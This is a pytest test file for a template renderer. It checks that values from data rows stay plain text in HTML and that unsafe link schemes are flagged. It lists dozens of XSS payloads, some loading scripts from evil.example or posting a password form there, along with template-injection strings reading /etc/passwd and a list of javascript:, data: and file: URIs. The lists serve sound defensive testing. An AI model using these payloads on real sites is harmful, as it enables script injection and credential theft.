"""S2: what a row holds stays text: no element, no attribute, no link of its own."""

from collections.abc import Callable
from pathlib import Path

import polars as pl
import pytest
from lxml import html as lxml_html

from engine.lint import ListLook
from engine.render import Renderer

#: Where a value may stand in HTML, as far as rule L33 lets a template put one there.
CONTEXTS = {
    "text": "<p>{v}</p>",
    "between tags": "<table><tr><td>{v}</td></tr></table>",
    "attribute": '<p title="{v}">x</p>',
    "single quotes": "<p title='{v}'>x</p>",
    "alternative text": '<img alt="{v}" src="https://a.example/x.png">',
    "query": '<a href="https://a.example/?q={v}&amp;r=1">x</a>',
    "path, encoded": '<a href="https://a.example/{e}">x</a>',
    "title": "<title>{v}</title>",
    "textarea": "<textarea>{v}</textarea>",
    "macro": "{{% macro m(x) %}}<b>{{{{ x }}}}</b>{{% endmacro %}}{{{{ m(word) }}}}",
    "joined": "<p>{{{{ '<' | e ~ word }}}}</p>",
    "set": "{{% set x %}}<i>{v}</i>{{% endset %}}{{{{ x }}}}",
    "loop": "{{% for c in [word] %}}<li>{{{{ c }}}}</li>{{% endfor %}}",
    "replaced": "<p>{{{{ 'Dear NAME' | replace('NAME', word) }}}}</p>",
    "formatted": "<p>{{{{ '<b>%s</b>' | safe | format(word) }}}}</p>",
}
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1)>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://evil.example'>your bank</a>",
    "<b>bold</b>",
    "</p><p>two</p>",
    "</td></tr></table><h1>x</h1>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!-- x",
    "<!--><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE html>",
    "]]><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    '" onmouseover=alert(1) x="',
    "' onmouseover='alert(1)",
    "' onmouseover=alert(1) x='",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '"/><img src=x onerror=alert(1)>',
    '" style="background:url(//evil.example)',
    '" autofocus onfocus="alert(1)',
    "` onmouseover=alert(1)",
    "\"'`><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&quot; onmouseover=&quot;alert(1)",
    "&amp;quot;&gt;&lt;script&gt;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<\x00script>alert(1)</script>",
    "\u2028<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&",
]
#: How a link is made to run something, and how filters are led astray.
BAD_LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "  javascript:alert(1)",
    "java\nscript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "view-source:https://evil.example",
    "feed:javascript:alert(1)",
    "intent://evil.example#Intent;end",
]

Rendering = Callable[[list[str]], list[str]]


def rendering(folder: Path, context: str) -> Rendering:
    """Compile a template with a value in a context; return what renders words."""
    text = context.format(v="{{ word }}", e="{{ word | urlencode }}")
    (folder / "html").write_text(text, encoding="utf-8")
    (folder / "subject").write_text("x", encoding="utf-8")
    renderer = Renderer(folder, {"subject": "subject", "html": "html"}, {})

    def render(words: list[str]) -> list[str]:
        count = len(words)
        chunk = pl.DataFrame(
            {
                "row": pl.Series(range(count), dtype=pl.UInt64),
                "address": ["a@a.example"] * count,
                "name": [""] * count,
                "message_id": ["m"] * count,
                "data": pl.Series([{"word": word} for word in words]),
            }
        )
        done = renderer.render(chunk)
        assert [] == done.failures
        return [*(done.messages.htmls or [])]

    return render


def skeleton(document: str) -> list[tuple[str, list[str]]]:
    """Return the elements and their attributes' names, as a lenient parser reads."""
    tree = lxml_html.document_fromstring(f"<div>{document}</div>")
    return [(f"{node.tag}", sorted(node.attrib)) for node in tree.iter()]


@pytest.mark.parametrize("context", CONTEXTS.values(), ids=CONTEXTS)
def test_a_value_makes_no_element_and_no_attribute(
    tmp_path: Path, context: str
) -> None:
    """Each of 64 attacks, in each place: the page has the same skeleton."""
    assert len(PAYLOADS) >= 60
    render = rendering(tmp_path, context)
    (plain,) = render(["plain"])
    for payload, document in zip(PAYLOADS, render(PAYLOADS), strict=True):
        readable = document.replace("\0", "")  # the parser's limit, not the reader's
        assert skeleton(plain) == skeleton(readable), payload


@pytest.mark.parametrize("link", BAD_LINKS)
def test_a_cell_that_a_link_begins_with_may_lead_to_pages_and_mailboxes_alone(
    link: str,
) -> None:
    """Escaping does not stop `javascript:`: the plan looks at each cell."""
    look = ListLook(beginnings={"page": ("a.html.j2", 1)})
    cells = ["https://a.example/x", link]
    look.add(
        pl.DataFrame(
            {
                "row": pl.Series([0, 1], dtype=pl.UInt64),
                "key": ["1", "2"],
                "address": ["a@a.example", "b@b.example"],
                "name": ["", ""],
                "message_id": ["m1", "m2"],
                "status": pl.Series([None, None], dtype=pl.String),
                "reason": pl.Series([None, None], dtype=pl.String),
                "detail": pl.Series([None, None], dtype=pl.String),
                "variant": pl.Series([None, None], dtype=pl.String),
                "data": pl.Series([{"page": cell} for cell in cells]),
            }
        )
    )
    (found,) = [finding for finding in look.findings() if finding.id == "L33"]
    assert "error" == found.severity
    assert [1] == [example.row for example in found.examples]
